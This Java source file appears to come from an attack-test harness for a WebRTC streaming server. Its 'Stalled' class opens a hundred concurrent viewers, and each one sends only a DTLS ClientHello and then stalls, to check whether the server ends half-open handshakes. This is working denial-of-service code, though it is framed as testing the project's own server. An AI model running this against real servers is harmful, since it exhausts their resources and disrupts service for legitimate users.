package io.github.natcast.streamer.attack;

import io.github.natcast.streamer.internal.srtp.SrtpProfile;
import io.github.natcast.streamer.internal.transport.TinyIceClient;
import io.github.natcast.streamer.internal.transport.dtls.LoopbackDtlsClient;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.util.Arrays;
import java.util.List;

/** A hundred viewers at a time who say hello in DTLS and then nothing more; those who are gone are replaced. */
final class Stalled implements Attack {
    private static final int AT_ONCE = 100;
    private static final int PATIENCE_MILLIS = 30_000;
    private static final int HANDSHAKE = 22;
    private static final int CLIENT_HELLO = 1;
    private static final int MESSAGE = 13;

    @Override
    public String name() {
        return "stalled-dtls";
    }

    @Override
    public Bounds bounds() {
        return Bounds.WATCHERS.withJoins(500);
    }

    @Override
    public void run(Victim.Target target, Deadline deadline, Tally tally) throws InterruptedException {
        for (int i = 0; i < AT_ONCE; i++) {
            InetAddress from = target.addresses().attacker(i);
            Thread thread = new Thread(() -> stallAgainAndAgain(from, target, deadline, tally), "stalled-" + i);
            thread.setDaemon(true);
            thread.start();
        }
        deadline.await();
    }

    private static void stallAgainAndAgain(InetAddress from, Victim.Target target, Deadline deadline, Tally tally) {
        try {
            while (!deadline.isOver()) {
                try {
                    stall(from, target, tally);
                } catch (IOException | UncheckedIOException e) {
                    tally.count("ended by the server");
                }
                deadline.sleep(1_000);
            }
        } catch (InterruptedException over) {
            Thread.currentThread().interrupt();
        }
    }

    private static void stall(InetAddress from, Victim.Target target, Tally tally)
            throws IOException, InterruptedException {
        Session session = Session.offer(from, target.http());
        try (TinyIceClient ice = new TinyIceClient(from, session.udp(), session.credentials())) {
            ice.check(true);
            if (!ice.awaitAnswer(5_000)) {
                tally.count("checks not answered");
                return;
            }
            LoopbackDtlsClient dtls = new LoopbackDtlsClient(
                    Session.IDENTITY,
                    session.fingerprint(),
                    List.of(SrtpProfile.values()),
                    PATIENCE_MILLIS,
                    (packet, offset, length) -> sayHello(ice, packet, offset, length));
            Thread reader = new Thread(() -> read(ice, dtls), "stalled-reader");
            reader.setDaemon(true);
            reader.start();
            tally.count("handshakes begun");
            try {
                dtls.connect();
                tally.found("a handshake that was not to end");
            } finally {
                reader.interrupt();
            }
        }
    }

    /** Everything else stays unsaid (RFC 5246 §7.4). */
    private static void sayHello(TinyIceClient ice, byte[] packet, int offset, int length) {
        if (length > MESSAGE && packet[offset] == HANDSHAKE && packet[offset + MESSAGE] == CLIENT_HELLO) {
            try {
                ice.send(Arrays.copyOfRange(packet, offset, offset + length));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    private static void read(TinyIceClient ice, LoopbackDtlsClient dtls) {
        try {
            for (byte[] packet = ice.poll(PATIENCE_MILLIS); packet != null; packet = ice.poll(PATIENCE_MILLIS)) {
                if (packet.length > 0 && packet[0] >= 20 && packet[0] <= 63) {
                    dtls.receive(packet, 0, packet.length);
                }
            }
        } catch (InterruptedException over) {
            Thread.currentThread().interrupt();
        }
    }
}
